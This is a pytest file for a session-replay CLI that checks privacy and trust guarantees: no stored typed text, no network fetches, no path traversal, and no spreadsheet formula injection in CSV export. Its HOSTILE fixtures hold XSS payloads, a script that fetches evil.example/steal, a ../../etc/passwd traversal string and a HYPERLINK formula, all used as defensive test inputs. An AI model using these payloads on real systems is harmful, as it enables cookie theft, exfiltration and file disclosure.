"""Privacy and trust (issue 7): typed text never stored, nothing fetched or executed,
names from recordings never become paths, exported cells never become formulas.

Everything runs through the real CLI on real recordings written to ``tmp_path``.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import json
import socket
import sqlite3
import subprocess
import zlib
from pathlib import Path
from typing import Any

import pytest
from safetykit import child_env, helper_cmd, record, replay_cmd

from replay.importers import import_file

pytestmark = pytest.mark.full  # heavy: the fast tier (plain pytest) leaves it out

TYPED_RECORDINGS = (
    "dev-rage-desktop-wide",  # the discount code AUTUMN30
    "dev-form-reentry-wide",  # name, phone, card number
    "dev-mixed-long-desktop",
    "dev-calm-desktop-basket",
)


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(
        replay_cmd(*args), capture_output=True, text=True, env=child_env(), cwd=cwd, check=False
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def imported_ids(proc: subprocess.CompletedProcess[str]) -> list[int]:
    """Session ids from ``replay import --json`` output (one JSON object per line)."""
    assert proc.returncode == 0, proc.stderr
    ids = []
    for line in proc.stdout.splitlines():
        line = line.strip()
        if line.startswith("{"):
            obj = json.loads(line)
            if "id" in obj:
                ids.append(int(obj["id"]))
    return ids


# -- typed text -------------------------------------------------------------------------


def typed_strings(path: Path) -> set[str]:
    """Texts typed into fields (Input events) that appear nowhere else in the recording."""
    events = json.loads(path.read_bytes())
    typed: set[str] = set()
    rest = copy.deepcopy(events)
    for ev in rest:
        data = ev.get("data", {})
        if ev.get("type") == 3 and data.get("source") == 5 and "text" in data:
            typed.add(data.pop("text"))
    others = json.dumps(rest, ensure_ascii=False)
    return {t for t in typed if len(t) >= 5 and set(t) != {"*"} and t not in others}


def every_stored_byte(db: Path) -> bytes:
    """The library file (and -wal) plus every cell decoded, and decompressed when zlib/gzip."""
    parts = [db.read_bytes()]
    wal = db.with_name(db.name + "-wal")
    if wal.exists():
        parts.append(wal.read_bytes())
    con = sqlite3.connect(db)
    tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    for table in tables:
        for row in con.execute(f'SELECT * FROM "{table}"'):
            for cell in row:
                raw = cell.encode("utf-8") if isinstance(cell, str) else cell
                if not isinstance(raw, bytes):
                    continue
                parts.append(raw)
                for wbits in (15, 31, -15):
                    with contextlib.suppress(zlib.error):
                        parts.append(zlib.decompress(raw, wbits))
    con.close()
    return b"\n".join(parts)


def test_typed_text_is_never_stored(rrweb_dir: Path, tmp_path: Path) -> None:
    files = [rrweb_dir / f"{name}.rrweb.json" for name in TYPED_RECORDINGS]
    secrets = set().union(*(typed_strings(p) for p in files))
    assert {"AUTUMN30", "Kari Nordmann", "4242 4242 4242 4242"} <= secrets
    db = tmp_path / "library.sqlite"
    ids = imported_ids(cli("import", "--json", "--db", str(db), *map(str, files)))
    assert len(ids) == len(files)
    stored = every_stored_byte(db)
    found = sorted(
        s for s in secrets if s.encode("utf-8") in stored or s.encode("utf-16-le") in stored
    )
    assert found == [], f"typed text stored in the library: {found}"
    record(
        f"typed text: {len(secrets)} distinct typed strings from {len(files)} real recordings "
        "(e.g. AUTUMN30, card numbers) absent from every byte of the library"
    )


# -- nothing fetched or executed --------------------------------------------------------

HOSTILE = (
    "javascript:alert(document.cookie)",
    "http://evil.example/beacon?x=1",
    "<script>fetch('http://evil.example/steal')</script>",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
    '=HYPERLINK("http://evil.example","click")',
)


def hostile_recording(rrweb_dir: Path, folder: Path) -> Path:
    """A real recording whose URLs, DOM text, custom and console events carry live-looking code."""
    events: list[dict[str, Any]] = json.loads(
        (rrweb_dir / "dev-quick-back-laptop.rrweb.json").read_bytes()
    )
    metas = [e for e in events if e["type"] == 4]
    metas[0]["data"]["href"] = HOSTILE[0]
    metas[1]["data"]["href"] = "http://evil.example/../../etc/passwd"
    full = next(e for e in events if e["type"] == 2)
    body = full["data"]["node"]["childNodes"][-1]["childNodes"][-1]
    body.setdefault("childNodes", []).extend(
        [
            {"type": 2, "tagName": "script", "attributes": {"src": HOSTILE[1]},
             "childNodes": [{"type": 3, "textContent": HOSTILE[2], "id": 900001}], "id": 900002},
            {"type": 2, "tagName": "a", "attributes": {"href": HOSTILE[0], "title": HOSTILE[4]},
             "childNodes": [{"type": 3, "textContent": HOSTILE[3], "id": 900003}], "id": 900004},
        ]
    )  # fmt: skip
    t = events[-1]["timestamp"]
    events += [
        {"type": 5, "data": {"tag": HOSTILE[5], "payload": {"href": HOSTILE[1]}}, "timestamp": t},
        {"type": 6, "data": {"plugin": "rrweb/console@1",
                             "payload": {"level": "error", "payload": [HOSTILE[2], HOSTILE[3]],
                                         "trace": [HOSTILE[1]]}}, "timestamp": t + 1},
    ]  # fmt: skip
    path = folder / "hostile.rrweb.json"
    path.write_text(json.dumps(events, ensure_ascii=False), encoding="utf-8")
    return path


def test_import_makes_no_connection(
    rrweb_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In process: any socket connection or lookup during import fails the test."""
    attempts: list[Any] = []

    def refuse(*args: Any, **_kwargs: Any) -> None:
        attempts.append(args)
        raise AssertionError(f"import tried to reach the network: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    session = import_file(hostile_recording(rrweb_dir, tmp_path))
    assert attempts == []
    # The hostile strings are kept as inert data, byte for byte (URLs are shown, never followed).
    assert HOSTILE[0] in session.strings


def test_cli_never_fetches_or_executes(rrweb_dir: Path, tmp_path: Path) -> None:
    """The whole CLI (import, detection, info, export) under a PEP 578 audit hook."""
    path = hostile_recording(rrweb_dir, tmp_path)
    db = tmp_path / "library.sqlite"

    def audited(*args: str) -> subprocess.CompletedProcess[str]:
        proc = subprocess.run(
            helper_cmd("audit_cli.py", *args),
            capture_output=True,
            text=True,
            env=child_env(),
            cwd=tmp_path,
            check=False,
        )
        assert "BLOCKED" not in proc.stderr, proc.stderr
        assert "Traceback" not in proc.stderr, proc.stderr
        assert proc.returncode == 0, proc.stderr
        return proc

    (session_id,) = imported_ids(audited("import", "--json", "--db", str(db), str(path)))
    info = audited("info", "--db", str(db), str(session_id))
    audited("sessions", "--json", "--db", str(db))
    audited("tag", "add", str(session_id), "--at", "1000", "--category", "other",
            "--note", HOSTILE[2], "--db", str(db))  # fmt: skip
    audited("export", "--db", str(db), "--out", str(tmp_path / "out.csv"))
    texts = sqlite3.connect(db).execute("SELECT json FROM session_texts").fetchall()
    assert any(HOSTILE[0] in t[0] for t in texts), "the javascript: URL should be kept as text"
    assert "Traceback" not in info.stdout
    record("untrusted content: import/info/sessions/tag/export ran under an audit hook "
           "forbidding sockets, lookups, processes and browsers: nothing fetched or run")  # fmt: skip


# -- names from recordings never become paths; formula cells neutralised -----------------


def files_under(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_recording_content_never_becomes_a_path(rrweb_dir: Path, tmp_path: Path) -> None:
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    src = tmp_path / "in"
    src.mkdir()
    path = hostile_recording(rrweb_dir, src)
    db = tmp_path / "lib" / "library.sqlite"
    db.parent.mkdir()
    (session_id,) = imported_ids(cli("import", "--json", "--db", str(db), str(path), cwd=work))
    cli("tag", "add", str(session_id), "--at", "500", "--category", "other", "--note",
        HOSTILE[4], "--db", str(db), cwd=work)  # fmt: skip
    out = work / "out" / "findings.csv"
    out.parent.mkdir()
    before = files_under(tmp_path)
    proc = cli("export", "--db", str(db), "--out", str(out), "--include-spikes", cwd=work)
    assert proc.returncode == 0, proc.stderr
    created = files_under(tmp_path) - before
    lib_files = {f"lib/{db.name}-wal", f"lib/{db.name}-shm"}
    assert created - lib_files == {"a/b/c/out/findings.csv"}


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_neutralises_formulas_end_to_end(rrweb_dir: Path, tmp_path: Path) -> None:
    """A recording named like a formula, a formula note and reviewer: no cell is a formula."""
    src = tmp_path / "in"
    src.mkdir()
    named = src / "=1+2 @SUM(A1).rrweb.json"
    named.write_bytes((rrweb_dir / "dev-rage-desktop-wide.rrweb.json").read_bytes())
    hostile = hostile_recording(rrweb_dir, src)
    db = tmp_path / "library.sqlite"
    ids = imported_ids(cli("import", "--json", "--db", str(db), str(named), str(hostile)))
    for session_id in ids:
        for note, reviewer in ((HOSTILE[5], "+reviewer"), ("-2+3", "@team"), ("=1+1", "=x")):
            done = cli("tag", "add", str(session_id), "--at", "100", "--end", "900",
                       "--category", "other", "--note", note, "--reviewer", reviewer,
                       "--db", str(db))  # fmt: skip
            assert done.returncode == 0, done.stderr
    out = tmp_path / "findings.csv"
    assert cli("export", "--db", str(db), "--out", str(out), "--include-spikes").returncode == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) > 6
    bad = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    assert bad == [], f"cells a spreadsheet would run as formulas: {bad[:5]}"
    text = out.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text  # the note is kept, as text
